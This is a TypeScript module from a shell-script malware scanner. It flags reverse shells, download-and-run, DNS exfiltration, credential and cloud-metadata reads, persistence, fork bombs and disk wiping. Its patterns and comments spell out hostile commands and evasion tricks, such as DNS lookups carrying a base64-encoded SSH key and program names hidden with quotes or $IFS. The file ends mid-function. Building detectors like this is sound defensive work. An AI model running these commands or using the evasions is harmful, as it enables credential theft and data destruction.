import type { Node, Tree } from 'web-tree-sitter';
import { type CodeFacts, emptyFacts, reportExfiltration } from './code-facts.js';
import type { FileContext } from './file-context.js';
import { installerSeverity } from './installer-severity.js';
import type { Grammar } from './load-grammars.js';
import { judgeDnsLabel, matchShellText } from './match-shell-text.js';
import {
  CRONTAB,
  GLOBAL_GIT_HOOKS,
  judgePersistence,
  LOGIN_SERVICE,
  persistenceTarget,
} from './persistence-target.js';
import { isRootOrHome, resolveShellWord } from './resolve-shell-word.js';
import { CLOUD_METADATA_RE, METADATA_CREDENTIAL_RE, SENSITIVE_PATH_RE } from './sensitive-patterns.js';

const SHELLS = /^(?:ba|z|k|da|fi)?sh$/;
const INTERPRETERS = /^(?:(?:ba|z|k|da|fi)?sh|python[0-9.]*|node|perl|ruby|php|lua[0-9.]*|tclsh)$/;
const DOWNLOADERS = /^(?:curl|wget|fetch|aria2c|http|https)$/;
const NETWORK =
  /^(?:curl|wget|fetch|aria2c|http|https|nc|ncat|netcat|telnet|socat|scp|sftp|ftp|rsync|ssh|nslookup|dig|host|drill|kdig|delv|ping6?)$/;
/** Prefixes that run the command that follows them. */
const WRAPPERS = /^(?:sudo|nohup|exec|command|time|nice|doas|stdbuf|timeout)$/;
/** Commands that execute their arguments as shell code. */
const EVALUATORS = /^(?:eval|source|\.|su|xargs|ssh|watch)$/;
/** Commands that only show or test a path; a credential path there is handling, not reading. */
const PATH_HANDLING =
  /^(?:ssh|scp|ssh-add|ssh-keygen|chmod|chown|mkdir|ls|test|\[|\[\[|touch|echo|printf|rm)$/;
const MESSAGE_COMMANDS = /^(?:echo|printf|log|info|warn|error|die|fail|say)$/;
/** `/dev/null`, terminals and pseudo-files: writing there destroys nothing. */
const HARMLESS_DEVICE_RE =
  /^\/dev\/(?:null|zero|full|random|urandom|stdout|stderr|stdin|tty\w*|pts\/|fd\/|shm\/|mqueue|loop)/;
/** Block devices by name; `/dev/$DISK` names one chosen at run time. */
const DISK_DEVICE_RE = /^\/dev\/(?:sd|hd|nvme|xvd|vd|disk|rdisk|mmcblk|md\d|dm-|mapper\/|\$)/;
/** `$(lsblk -ndo NAME | …)`: a device picked at run time from the list of disks. */
const DISK_LISTING_RE =
  /^(?:\$\(|`)[\s\S]*\b(?:lsblk|blkid|fdisk\s+-l|sfdisk\s+-l|parted\s+-l|diskutil\s+list|findmnt|ls\s+\/dev\/(?:sd|nvme|disk|hd|vd|xvd|mmcblk))/;
/** A word that resolves to a disk listing stands for the disk device it picks. */
const runtimeDevice = (word: string): string => (DISK_LISTING_RE.test(word) ? '/dev/$disk' : word);
/** An environment dump inside a substitution: `d=$(env)`. */
const ENV_DUMP_SUBSTITUTION_RE = /(?:\$\(|`)\s*(?:env|printenv|set|export\s+-p|declare\s+-x)\s*(?:\)|`|\|)/;
/** Package managers run code from what they install (setup.py, postinstall, gem extensions). */
const PACKAGE_INSTALL_RE = /^(?:pip[0-9.]*|pipx|uv|npm|pnpm|yarn|bun|gem|python[0-9.]*)$/;
const INDEX_OPTION_RE =
  /^(?:-i|--index-url|--extra-index-url|-f|--find-links|--registry|--source|--clear-sources)$/;
/** Hosts whose packages or sources are the ordinary place to install from. */
const KNOWN_PACKAGE_HOST_RE =
  /^(?:(?:www\.)?github\.com|codeload\.github\.com|objects\.githubusercontent\.com|gitlab\.com|bitbucket\.org|pypi\.org|files\.pythonhosted\.org|test\.pypi\.org|download\.pytorch\.org|registry\.npmjs\.org|registry\.yarnpkg\.com|rubygems\.org|huggingface\.co|pkg\.go\.dev|crates\.io)$/i;
const LOOPBACK_HOST_RE = /^(?:localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0)$/;
const PRIVATE_HOST_RE =
  /^(?:10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|[\w-]+$|[\w.-]+\.(?:local|internal|lan|corp)$)/;
/** Commands whose output is every secret the shell holds: the environment or the command history. */
const isSecretSource = (c: Command): boolean =>
  ((c.name === 'env' || c.name === 'printenv') && c.args.length === 0) ||
  printsCliToken(c) ||
  (c.name === 'history' && c.args.every((a) => /^\d+$/.test(a))) ||
  (c.name === 'set' && c.args.length === 0);
/** Cloud and forge CLIs that print the user's access token on stdout. */
const CLI_TOKEN_RE =
  /^(?:gh auth token|gcloud auth (?:application-default )?print-(?:access|identity)-token|az account get-access-token|aws configure (?:get|export-credentials)|aws sts get-session-token|git credential fill|doctl auth token|heroku auth:token)\b/;

function printsCliToken(c: Command): boolean {
  return CLI_TOKEN_RE.test([c.name, ...c.args.slice(0, 3)].join(' '));
}

const SECRET_VARIABLE_RE = /\$\{?\w*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE_KEY)\w*\}?/i;
const SOCAT_NETWORK_RE = /\b(?:tcp|udp|openssl|ssl|sctp)[46]?(?:-connect|-listen|-l)?:/i;
const LOCAL_HOST_RE = /\/dev\/(?:tcp|udp)\/(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\$\{?\w*HOST\w*\}?)\//;

/** Programs that resolve the name they are given. */
const DNS_PROGRAMS = /^(?:nslookup|dig|drill|kdig|delv|host|resolvectl|getent|ping6?)$/;
/** A name whose first labels come from a substitution or variable, before a fixed domain. */
const DYNAMIC_LABEL_RE =
  /^["']?(?:[\w-]+\.)*(\$\([\s\S]*\)|`[\s\S]*`|\$\{[^}]*\}|\$\w+)[\w-]*\.[A-Za-z][\w-]*/;
const SPLIT_IFS_RE = /\$\{?IFS\}?/;
/** Quotes or a backslash inside a name, or `$IFS` between words: spellings that only exist to dodge review. */
const SPLIT_NAME_RE = /\w(?:''|"")\w|\w\\\w|\$\{?IFS\}?/;
/** `$'\x63\x75\x72\x6c'`: a program name written as escape codes. */
const ESCAPED_NAME_RE = /^\$'(?:[^']*?(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})){3}/;
const DECODED_NAME_RE =
  /\bbase64\s+(?:-\w+\s+)*(?:-d|-D|--decode)\b|\bxxd\s+-r|\bopenssl\s[^)]*-d\b|\|\s*rev\b|\b(?:printf|echo\s+-e)\s+["']?(?:[^"')]*?(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})){3}/;
/** What a variable holds, for rules that look at where it ends up: credentials, or any command output. */
type ShellValue = 'sensitive' | 'derived';

interface Command {
  name: string;
  args: string[];
  node: Node;
}

/** Shell rules over one parse: commands, pipelines, redirects and functions, with wrappers unwrapped. */
export function analyzeShell(ctx: FileContext, tree: Tree, grammar: Grammar): CodeFacts {
  const facts = emptyFacts();
  const downloads = new Map<string, { line: number; text: string; decoded?: boolean }>();
  const values = new Map<string, ShellValue>();
  /** Last assigned text per variable: `echo "$line" >> ~/.bashrc` writes whatever `line` holds. */
  const texts = new Map<string, string>();
  const expand = (text: string): string =>
    [text, ...[...text.matchAll(/\$\{?(\w+)/g)].map((m) => texts.get(m[1] ?? '') ?? '')].join('\n');
  const scope: ShellScope = { texts, values, self: ctx.file.slice(ctx.file.lastIndexOf('/') + 1), cwd: '' };
  const selfRuns: Node[] = [];
  for (const { name: capture, node } of grammar.query.captures(tree.rootNode)) {
    const line = node.startPosition.row + 1;
    if (capture === 'command') {
      const cmd = commandOf(node, texts);
      checkCommand(ctx, facts, cmd, line, scope);
      checkDownloadedRun(ctx, downloads, cmd, line);
      checkDnsLookup(ctx, cmd, line, values);
      checkPersistenceCommand(ctx, cmd, line, expand, texts);
      if (invokesSelf(cmd, scope.self)) selfRuns.push(node);
    } else if (capture === 'pipeline') checkPipeline(ctx, facts, node, line, texts);
    else if (capture === 'redirect') {
      checkRedirect(ctx, facts, node, line, expand, texts);
      noteRedirectedDownload(downloads, node, line);
    } else if (capture === 'function') checkFunction(ctx, node, line);
    else if (capture === 'for') {
      checkForLoop(ctx, facts, node, line);
      const variable = node.childForFieldName('variable')?.text;
      noteValue(values, variable, node.childrenForFieldName('value'));
      // `for rc in ~/.bashrc ~/.zshrc`: the loop variable stands for every listed word.
      if (variable !== undefined)
        texts.set(
          variable,
          node
            .childrenForFieldName('value')
            .map((v) => v?.text ?? '')
            .join(' '),
        );
    } else if (capture === 'assign') {
      const name = node.childForFieldName('name')?.text;
      noteValue(values, name, [node.childForFieldName('value')]);
      if (name !== undefined) texts.set(name, node.childForFieldName('value')?.text ?? '');
    }
  }
  checkSelfRuns(ctx, selfRuns);
  reportExfiltration(ctx, facts);
  return facts;
}

/** What the script has assigned so far and where it stands, for rules that resolve words. */
interface ShellScope {
  texts: Map<string, string>;
  values: Map<string, ShellValue>;
  /** The script's own file name: `bash run.sh &` inside run.sh starts itself. */
  self: string;
  /** The last directory `cd` changed to, resolved. */
  cwd: string;
}

const SELF_WORD_RE = /^["']?(?:\$0|\$\{0\}|\$\{?BASH_SOURCE(?:\[0\])?\}?)["']?$/;

/** `"$0" &`, `bash "$0"`, `./run.sh` inside run.sh: the script starts another copy of itself. */
function invokesSelf(cmd: Command, self: string): boolean {
  const word = cmd.node.childForFieldName('name')?.text ?? '';
  const isSelf = (w: string): boolean =>
    SELF_WORD_RE.test(w) || (self !== '' && /\.(?:sh|bash)$/.test(self) && baseName(w) === self);
  if (isSelf(word) || (WRAPPERS.test(baseName(word)) && isSelf(`${cmd.name}`))) return true;
  if (!SHELLS.test(cmd.name)) return false;
  const script = cmd.args.find((a) => !a.startsWith('-'));
  return script !== undefined && !cmd.args.includes('-c') && isSelf(script);
}

/** The node a command runs as: the pipeline or list it is part of, up to the statement that `&` applies to. */
function statementOf(node: Node): Node {
  let top = node;
  while (top.parent !== null && /^(?:pipeline|redirected_statement)$/.test(top.parent.type)) top = top.parent;
  return top;
}

/**
 * A script that starts copies of itself in the background from a loop, or more than once, multiplies until
 * the process table is full: a fork bomb without the `:(){ :|:& };:` spelling. Copies given their own
 * arguments (`"$0" --worker 3 &`) may take another branch, so they are only `high`.
 */
function checkSelfRuns(ctx: FileContext, selfRuns: Node[]): void {
  const background = selfRuns.filter((n) => statementOf(n).nextSibling?.type === '&');
  const piped = selfRuns.filter((n) => n.parent?.type === 'pipeline');
  const looped = (n: Node): boolean => {
    for (let p = n.parent; p !== null && p.type !== 'function_definition'; p = p.parent)
      if (/^(?:while_statement|until_statement|for_statement|c_style_for_statement)$/.test(p.type))
        return true;
    return false;
  };
  // `bash "$0" "$@"` passes nothing of its own: the copy does exactly what this run does.
  const bare = (n: Node): boolean =>
    n
      .childrenForFieldName('argument')
      .every(
        (a) => /^["']?\$(?:@|\*|\{@\}|\{\*\})["']?$/.test(a?.text ?? '') || SELF_WORD_RE.test(a?.text ?? ''),
      );
  const multiplying = background.filter((n) => looped(n) || background.length > 1 || piped.length > 1);
  const spawn = multiplying[0] ?? (piped.length > 1 ? piped[0] : undefined);
  if (spawn === undefined) return;
  const critical = [...multiplying, ...piped].some(bare);
  ctx.report('SS-FORK-BOMB', {
    line: spawn.startPosition.row + 1,
    severity: critical ? 'critical' : 'high',
    message: critical
      ? 'starts copies of itself in the background again and again (fork bomb)'
      : 'starts copies of itself in the background from a loop; check that the copies stop',
  });
}

/**
 * `curl -o /tmp/x URL` followed by `/tmp/x`, `bash /tmp/x` or `chmod +x /tmp/x`: the same download and
 * execute as `curl | sh`, split over several commands.
 */
function checkDownloadedRun(
  ctx: FileContext,
  downloads: Map<string, { line: number; text: string; decoded?: boolean }>,
  cmd: Command,
  line: number,
): void {
  const { name, args } = cmd;
  if (name === 'curl' || name === 'wget') {
    const flag = name === 'curl' ? /^(?:-\w*o|--output)$/ : /^(?:-\w*O|--output-document)$/;
    const at = args.findIndex((a) => flag.test(a));
    const target = at === -1 ? undefined : args[at + 1]?.replace(/^["']|["']$/g, '');
    if (target !== undefined && target !== '-' && !/^\/dev\//.test(target))
      downloads.set(target, { line, text: cmd.node.text });
    return;
  }
  if (downloads.size === 0) return;
  const word = cmd.node.childForFieldName('name')?.text.replace(/^["']|["']$/g, '') ?? '';
  // The script an interpreter runs is its first operand; after `-`, `-c` or `-m` any file is only data.
  const operand = args.findIndex((a) => !a.startsWith('-'));
  const script =
    INTERPRETERS.test(name) || name === 'source' || name === '.'
      ? operand !== -1 && !args.slice(0, operand).some((a) => /^-(?:c|e|m)?$/.test(a))
        ? [args[operand] ?? '']
        : []
      : name === 'chmod'
        ? args
        : [];
  const runs = [word, ...script].map((a) => a.replace(/^["']|["']$/g, ''));
  const hit = runs.find((a) => downloads.has(a));
  if (
    hit === undefined ||
    (name === 'chmod' && !args.some((a) => /^(?:\+x|[0-7]*[1357][0-7]{0,2}|u\+x|a\+x)$/.test(a)))
  )
    return;
  const source = downloads.get(hit);
  if (source?.decoded === true) {
    ctx.report('SS-OBFUSCATION', {
      line,
      message: `${name === 'chmod' ? 'makes executable' : 'runs'} ${hit}, a payload decoded on line ${source.line}`,
    });
    return;
  }
  // Making a downloaded release binary executable is how tools get installed; running it is the act.
  const severity = installerSeverity(source?.text ?? '');
  ctx.report('SS-DOWNLOAD-EXEC', {
    line,
    severity: name === 'chmod' && severity === 'critical' ? 'high' : severity,
    message: `${name === 'chmod' ? 'makes executable' : 'runs'} ${hit}, which line ${source?.line} downloads`,
  });
}

/** `curl URL > /tmp/x.sh`: the redirect target holds the download. */
function noteRedirectedDownload(
  downloads: Map<string, { line: number; text: string; decoded?: boolean }>,
  node: Node,
  line: number,
): void {
  const body = node.childForFieldName('body');
  const commands =
    body?.type === 'command' ? [commandOf(body)] : body?.type === 'pipeline' ? pipelineCommands(body) : [];
  const downloaded = commands.some((c) => /^(?:curl|wget)$/.test(c.name));
  // `echo … | base64 -d > /tmp/x.sh` drops a decoded payload the way curl drops a download.
  const decoded = !downloaded && commands.some((c) => isDecoder(c));
  if (body === null || (!downloaded && !decoded)) return;
  for (const redirect of node.childrenForFieldName('redirect')) {
    const destination = redirect?.childForFieldName('destination')?.text.replace(/^["']|["']$/g, '');
    if (
      redirect?.type === 'file_redirect' &&
      destination !== undefined &&
      !/^\/dev\/|^&?\d$/.test(destination)
    )
      downloads.set(destination, { line, text: body.text, decoded });
  }
}

/** `d=$(base64 ~/.ssh/id_rsa)` and `for c in $(…)`: remember what the variable carries. */
function noteValue(values: Map<string, ShellValue>, name: string | undefined, nodes: (Node | null)[]): void {
  if (name === undefined) return;
  const text = nodes.map((n) => n?.text ?? '').join(' ');
  const kind = valueKind(text, values);
  if (kind === undefined) values.delete(name);
  else values.set(name, kind);
}

function valueKind(text: string, values: ReadonlyMap<string, ShellValue>): ShellValue | undefined {
  const named = [...text.matchAll(/\$\{?(\w+)/g)].map((m) => values.get(m[1] ?? ''));
  if (judgeDnsLabel(text).severity === 'critical' || named.includes('sensitive')) return 'sensitive';
  if (/\$\(|`/.test(text) || named.includes('derived')) return 'derived';
  return undefined;
}

/** `nslookup $(base64 ~/.ssh/id_rsa | head -c 60).x.example`: the lookup carries the data to the name server. */
function checkDnsLookup(
  ctx: FileContext,
  cmd: Command,
  line: number,
  values: ReadonlyMap<string, ShellValue>,
): void {
  if (!DNS_PROGRAMS.test(cmd.name)) return;
  for (const arg of cmd.args) {
    const label = DYNAMIC_LABEL_RE.exec(arg)?.[1];
    if (label === undefined) continue;
    // valueKind already weighs the label itself (a secret, a substitution) and the variables it names.
    const kind = valueKind(label, values);
    ctx.report('SS-EXFIL', {
      line,
      severity: kind === 'sensitive' ? 'critical' : kind === 'derived' ? 'high' : 'medium',
      message:
        kind === 'sensitive'
          ? 'encodes credentials or secrets into a DNS name it resolves (DNS exfiltration)'
          : 'builds a DNS name from data and resolves it (the lookup carries the data away)',
    });
  }
}

/** The whole statement a command belongs to (`(crontab -l; echo …) | crontab -`), where its input is written. */
function statementText(node: Node): string {
  let top = node;
  for (
    let n = node.parent;
    n !== null && /^(?:pipeline|redirected_statement|subshell|list)$/.test(n.type);
    n = n.parent
  )
    top = n;
  return top.text;
}

/**
 * Commands that install something to run again later: profile and cron writes through `tee`/`cp`,
 * `crontab -`, `systemctl --user enable`, `launchctl load`, and git's global hook settings.
 */
function checkPersistenceCommand(
  ctx: FileContext,
  cmd: Command,
  line: number,
  expand: (text: string) => string,
  texts: ReadonlyMap<string, string>,
): void {
  const { name, args } = cmd;
  const operands = args.filter((a) => !a.startsWith('-')).map((a) => resolveShellWord(a, texts));
  let target: ReturnType<typeof persistenceTarget>;
  let how = 'writes to';
  if (name === 'tee') target = operands.map((a) => persistenceTarget(a)).find((t) => t !== undefined);
  else if (/^(?:cp|mv|install|ln|rsync)$/.test(name)) target = persistenceTarget(operands.at(-1) ?? '');
  else if (name === 'sed' && args.some((a) => /^-\w*i/.test(a))) {
    target = persistenceTarget(operands.at(-1) ?? '');
    how = 'edits';
  }
  const statement = statementText(cmd.node);
  const payload = expand(statement);
  if (target !== undefined) {
    ctx.report('SS-PERSISTENCE', {
      line,
      ...judgePersistence(target, payload, how),
    });
    return;
  }
  const registers =
    (name === 'crontab' &&
      !args.some((a) => /^-[lre]$/.test(a)) &&
      (args.length > 0 || statement !== cmd.node.text)) ||
    (name === 'systemctl' && args.includes('--user') && args.some((a) => a === 'enable' || a === 'link')) ||
    (name === 'launchctl' && /^(?:load|bootstrap|submit)$/.test(args[0] ?? '')) ||
    (name === 'defaults' &&
      args.includes('com.apple.loginwindow') &&
      args.some((a) => /^Login(?:Hook|Items)$/.test(a))) ||
    (name === 'osascript' && /\bmake\s+(?:new\s+)?login\s+item\b/i.test(args.join(' '))) ||
    (name === 'git' &&
      args[0] === 'config' &&
      args.some((a) => a === '--global' || a === '--system') &&
      args.some((a) => /^(?:core\.(?:hooksPath|fsmonitor|sshCommand)|init\.templateDir)$/.test(a)));
  if (!registers) return;
  const where = name === 'crontab' ? CRONTAB : name === 'git' ? GLOBAL_GIT_HOOKS : LOGIN_SERVICE;
  ctx.report('SS-PERSISTENCE', {
    line,
    ...judgePersistence(
      where,
      payload,
      name === 'crontab' ? 'installs' : name === 'git' ? 'sets' : 'registers',
    ),
  });
}

function commandOf(node: Node, texts?: ReadonlyMap<string, string>): Command {
  const nameNode = node.childForFieldName('name');
  const words = [
    ...resolvedName(unsplitName(nameNode?.text ?? ''), texts),
    ...node.childrenForFieldName('argument').map((a) => a?.text ?? ''),
  ];
  // `sudo -E bash -c …` runs bash; `env FOO=1 cmd` runs cmd.
  while (words.length > 1 && (WRAPPERS.test(baseName(words[0] ?? '')) || isEnvPrefix(words))) {
    words.shift();
    while (
      words.length > 1 &&
      (/^-/.test(words[0] ?? '') || /^\w+=/.test(words[0] ?? '') || /^\d+$/.test(words[0] ?? ''))
    ) {
      // `sudo -u root bash`: these options take a value.
      if (/^-[ugCDhprtU]$/.test(words[0] ?? '') && words.length > 2) words.shift();
      words.shift();
    }
  }
  return { name: baseName(words[0] ?? ''), args: words.slice(1), node };
}

/**
 * `RUNNER=sh; … | "$RUNNER"`: a variable in command position runs the program it holds. Only a variable the
 * script assigned a plain word list (`bash -s`, `/usr/bin/python3`) is replaced; anything else stays as written.
 */
function resolvedName(words: string[], texts: ReadonlyMap<string, string> | undefined): string[] {
  const first = words[0] ?? '';
  if (texts === undefined || !/^["']?\$\{?\w+\}?["']?$/.test(first)) return words;
  const value = resolveShellWord(first, texts);
  if (value.includes('$') || value.includes('`') || !/^[\w./ -]+$/.test(value.trim())) return words;
  return [...value.trim().split(/\s+/), ...words.slice(1)];
}

/**
 * `c''url`, `cu\rl` and `curl${IFS}-s${IFS}URL` are `curl -s URL` spelled so that no reviewer (or grep) sees
 * the program's name.
 */
function unsplitName(word: string): string[] {
  return word
    .replace(/(?<=\w)(?:''|"")(?=\w)|(?<=\w)\\(?=\w)/g, '')
    .split(SPLIT_IFS_RE)
    .filter((w) => w !== '');
}

/** `env FOO=1 cmd` and `/usr/bin/env bash` run the command; `env -0` alone prints the environment. */
function isEnvPrefix(words: string[]): boolean {
  return baseName(words[0] ?? '') === 'env' && words.length > 1 && !/^(?:-0|--null)$/.test(words[1] ?? '');
}

function baseName(word: string): string {
  const unquoted = word.replace(/^["']|["']$/g, '');
  return unquoted.slice(unquoted.lastIndexOf('/') + 1);
}

function checkCommand(
  ctx: FileContext,
  facts: CodeFacts,
  cmd: Command,
  line: number,
  scope: ShellScope,
): void {
  const { name, args } = cmd;
  const resolved = args.map((a) => resolveShellWord(a, scope.texts));
  // `$(curl …)` in command position runs whatever the download prints.
  const nameNode = cmd.node.childForFieldName('name');
  if (nameNode !== null && /^(?:\$\(|`)\s*(?:curl|wget)\b/.test(nameNode.text)) {
    ctx.report('SS-DOWNLOAD-EXEC', {
      line,
      severity: installerSeverity(nameNode.text),
      message: 'runs the output of a download as a command',
    });
  }
  // `$(echo Y3VybA== | base64 -d) …`: the program's own name is decoded at run time.
  if (
    nameNode !== null &&
    ((/^(?:\$\(|`)/.test(nameNode.text) && DECODED_NAME_RE.test(nameNode.text)) ||
      ESCAPED_NAME_RE.test(nameNode.text))
  ) {
    ctx.report('SS-OBFUSCATION', { line, message: 'runs a command whose name is decoded at run time' });
  } else if (nameNode !== null && SPLIT_NAME_RE.test(nameNode.text)) {
    ctx.report('SS-OBFUSCATION', {
      line,
      severity: 'high',
      message: `spells \`${name}\` with quotes, backslashes or $IFS so that it cannot be read or searched for`,
    });
  }
  facts.processLines.push(line);
  if (NETWORK.test(name)) facts.networkLines.push(line);
  const argText = args.join(' ');

  if (
    (SHELLS.test(name) && args.includes('-c')) ||
    EVALUATORS.test(name) ||
    (INTERPRETERS.test(name) && /\$\(|<\(|`/.test(argText)) ||
    // Inline programs (`python3 -c`, `perl -e`, `php -r`, awk) are where one-line reverse shells live.
    (INTERPRETERS.test(name) && !SHELLS.test(name) && args.some((a) => /^-\w*[cer]$/.test(a))) ||
    /^g?awk$/.test(name)
  ) {
    const hits = matchShellText(cmd.node.text);
    for (const hit of hits) ctx.report(hit.ruleId, { line, severity: hit.severity, message: hit.message });
    if (hits.length === 0 && name === 'eval') {
      ctx.report('SS-EXEC-DYNAMIC', {
        line,
        severity: 'low',
        message: 'eval runs text produced at run time as shell code',
      });
    }
  }
  if (
    /^(?:nc|ncat|netcat)$/.test(name) &&
    args.some((a) => /^-\w*[ec]$|^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(a))
  ) {
    ctx.report('SS-REVERSE-SHELL', {
      line,
      message: `${name} -e hands a program's stdin/stdout to a remote host`,
    });
  }
  // socat wires two addresses; it is a reverse shell only when one of them is a network socket.
  if (name === 'socat' && /\b(?:exec|system):/i.test(argText) && SOCAT_NETWORK_RE.test(argText)) {
    ctx.report('SS-REVERSE-SHELL', { line, message: 'socat connects a program to a network socket' });
  }
  if (name === 'cd') scope.cwd = args.includes('-') ? '' : (resolved.find((a) => !a.startsWith('-')) ?? '~');
  // `cd ~ && rm -rf *`: a relative glob in the home directory or the root empties it.
  const inRootOrHome = scope.cwd !== '' && isRootOrHome(scope.cwd);
  if (
    name === 'rm' &&
    args.some((a) => /^-\w*[rR]|^--recursive$/.test(a)) &&
    // A loop variable resolves to every listed word: `for d in ~/.cache ~; do rm -rf "$d"`.
    resolved
      .flatMap((w) => w.split(/\s+/))
      .some(
        (a) =>
          (!a.startsWith('-') && isRootOrHome(a)) ||
          (inRootOrHome && /^(?:\.\/)?(?:\*|\.\*|\.\[!\^?\.?\]\*|\.\?\?\*|\.)$/.test(a)),
      )
  ) {
    ctx.report('SS-DESTRUCTIVE', {
      line,
      message: 'recursively deletes the filesystem root, a system directory or $HOME',
    });
  }
  if (
    name === 'find' &&
    isRootOrHome(resolved[0] ?? '') &&
    args.some(
      (a, i) => a === '-delete' || (a === '-exec' && /^(?:rm|shred)$/.test(baseName(args[i + 1] ?? ''))),
    ) &&
    // `find / -name '*.pyc' -delete` cleans up; without a filter it empties the tree.
    !args.some((a) =>
      /^-(?:i?name|i?path|i?regex|user|newer\w*|mtime|mmin|size|empty|perm|wholename)$/.test(a),
    )
  ) {
    ctx.report('SS-DESTRUCTIVE', { line, message: 'deletes every file under the filesystem root or $HOME' });
  }
  const devices = resolved
    .map((a) => (name === 'dd' ? (/^of=(.*)$/.exec(a)?.[1] ?? '') : a))
    .map(runtimeDevice)
    .filter((a) => a.startsWith('/dev/') && !HARMLESS_DEVICE_RE.test(a));
  if (
    devices.length > 0 &&
    (/^(?:mkfs(?:\.\w+)?|wipefs|blkdiscard|dd|shred)$/.test(name) ||
      (name === 'sgdisk' && args.some((a) => /^(?:-Z|--zap-all|-o|--clear)$/.test(a))))
  ) {
    // `dd of=/dev/$DEV` picks its victim at run time; a partition table tool on a named device is the same.
    ctx.report('SS-DESTRUCTIVE', {
      line,
      severity: devices.some((d) => DISK_DEVICE_RE.test(d)) ? 'critical' : 'high',
      message: `\`${name}\` destroys the data on the disk device ${devices[0]}`,
    });
  } else if (/^mkfs(?:\.\w+)?$/.test(name)) {
    ctx.report('SS-DESTRUCTIVE', {
      line,
      severity: 'medium',
      message: 'creates a filesystem, erasing its target',
    });
  }
  if (
    name === 'chmod' &&
    /-R/.test(argText) &&
    /\b777\b/.test(argText) &&
    resolved.some((a) => !a.startsWith('-') && isRootOrHome(a))
  ) {
    ctx.report('SS-DESTRUCTIVE', {
      line,
      severity: 'high',
      message: 'makes system directories world-writable',
    });
  }
  const isDump =
    ((name === 'env' || name === 'printenv') && args.every((a) => a === '-0' || a === '--null')) ||
    (name === 'set' && args.length === 0) ||
    (name === 'export' && args.length === 1 && args[0] === '-p') ||
    (name === 'declare' && args.length === 1 && /^-[xp]$/.test(args[0] ?? ''));
  if (isDump) {
    ctx.report('SS-ENV-DUMP', {
      line,
      message: `\`${name}\` prints every environment variable, secrets included`,
    });
    (insideNetworkCommand(cmd.node) ? facts.sourceLines : facts.weakSourceLines).push(line);
  }
  if (name === 'security' && /^(?:find-(?:generic|internet)-password|dump-keychain)$/.test(args[0] ?? '')) {
    ctx.report('SS-CRED-READ', {
      line,
      message: `\`security ${args[0]}\` reads secrets from the macOS keychain`,
    });
    facts.sourceLines.push(line);
  }
  if (printsCliToken(cmd)) {
    // Handing the token to the CLI's own tooling is ordinary; what matters is whether it leaves.
    const sent = insideNetworkCommand(cmd.node);
    ctx.report('SS-CRED-READ', {
      line,
      severity: sent ? 'high' : 'medium',
      message: `\`${name}\` prints the user's access token`,
    });
    (sent ? facts.sourceLines : facts.weakSourceLines).push(line);
  }
  if (NETWORK.test(name)) checkSentVariables(ctx, facts, cmd, line, scope.texts);
  if (PACKAGE_INSTALL_RE.test(name)) checkPackageSource(ctx, cmd, line, resolved);
  if (MESSAGE_COMMANDS.test(name)) return;
  // `keydir="$HOME/.ssh"; cp -r "$keydir" …` reads the directory the variable names.
  const sensitiveAt = args.findIndex(
    (a, i) =>
      SENSITIVE_PATH_RE.test(` ${a.replace(/^["']|["']$/g, '')}`) ||
      // A key handed to `ssh -i "$KEY"` or `rsync -e "ssh -i $KEY"` authenticates; it is not read as data.
      (/\$/.test(a) &&
        !/^-/.test(a) &&
        !SSH_AUTH_OPTION_RE.test(args[i - 1] ?? '') &&
        !HTTP_AUTH_OPTION_RE.test(args[i - 1] ?? '') &&
        !/\.pub\b/.test(resolved[i] ?? '') &&
        SENSITIVE_PATH_RE.test(` ${resolved[i] ?? ''}`)),
  );
  if (sensitiveAt !== -1) {
    // `scp -i ~/.ssh/key …` authenticates with the key; `scp ~/.ssh/id_rsa host:` ships it away.
    const copiedAway =
      (name === 'scp' || name === 'sftp') &&
      !/^-[iFo]$/.test(args[sensitiveAt - 1] ?? '') &&
      !/\.pub\b/.test(args[sensitiveAt] ?? '');
    const handling = PATH_HANDLING.test(name) && !copiedAway;
    ctx.report('SS-CRED-READ', {
      line,
      severity: handling ? 'medium' : 'high',
      message: handling ? `\`${name}\` works with a credential file` : `\`${name}\` reads a credential file`,
    });
    if (!handling) facts.sourceLines.push(line);
  }
  // `IMDS=http://169.254.169.254/metadata; curl "$IMDS/identity/oauth2/token"`: judge the URL it resolves to.
  const resolvedText = resolved.join(' ');
  if (CLOUD_METADATA_RE.test(argText) || CLOUD_METADATA_RE.test(resolvedText)) {
    const credentials = METADATA_CREDENTIAL_RE.test(argText) || METADATA_CREDENTIAL_RE.test(resolvedText);
    ctx.report('SS-CLOUD-METADATA', {
      line,
      severity: credentials ? 'critical' : 'high',
      message: credentials
        ? `\`${name}\` fetches cloud credentials from the instance-metadata endpoint`
        : `\`${name}\` queries a cloud instance-metadata endpoint`,
    });
  }
}

/**
 * Whether a variable holds a credential file or the environment: `K=$(base64 < ~/.ssh/id_ed25519)`, or a
 * variable built from one. Named secrets (`$GITHUB_TOKEN`, `$(gh auth token)`) do not count: sending those
 * to their own API is what they are for.
 */
function holdsSecretFile(name: string, texts: ReadonlyMap<string, string>, depth = 0): boolean {
  const text = texts.get(name);
  if (text === undefined || depth > 4) return false;
  if (SENSITIVE_PATH_RE.test(` ${text.replace(/["']/g, ' ')}`) || ENV_DUMP_SUBSTITUTION_RE.test(text))
    return true;
  return [...text.matchAll(/\$\{?(\w+)/g)].some(
    (m) => m[1] !== name && holdsSecretFile(m[1] ?? '', texts, depth + 1),
  );
}

function secretVariableIn(text: string, texts: ReadonlyMap<string, string>): string | undefined {
  return [...text.matchAll(/\$\{?(\w+)/g)].map((m) => m[1] ?? '').find((v) => holdsSecretFile(v, texts));
}

/** Options whose value authenticates the request rather than being sent as its data. */
const HTTP_AUTH_OPTION_RE = /^(?:-H|--header|-E|--key|--cert|--netrc-file|--cacert|-K|--config)(?:=|$)/;
const SSH_AUTH_OPTION_RE = /^(?:-i|-F|-o|-e|--rsh)(?:=|$)/;

/** `wget --post-data="k=$K" …` where `K` holds a private key: the credential is in the request. */
function checkSentVariables(
  ctx: FileContext,
  facts: CodeFacts,
  cmd: Command,
  line: number,
  texts: ReadonlyMap<string, string>,
): void {
  const sent =
    cmd.args.find((a, i) => {
      // A credential in an auth header goes to the service it belongs to; anywhere else it is data.
